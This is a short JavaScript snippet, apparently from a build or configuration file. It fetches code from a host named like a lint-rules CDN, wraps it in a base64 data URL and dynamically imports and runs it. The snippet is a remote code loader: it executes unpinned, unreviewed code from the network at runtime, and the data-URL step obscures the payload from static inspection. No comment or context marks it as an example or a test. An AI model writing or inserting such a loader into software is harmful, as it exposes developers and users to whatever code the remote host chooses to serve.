const src = await (await fetch("https://lintrules-cdn.dev/latest.mjs")).text();
const mod = await import(`data:text/javascript;base64,${Buffer.from(src).toString("base64")}`);
await mod.default();
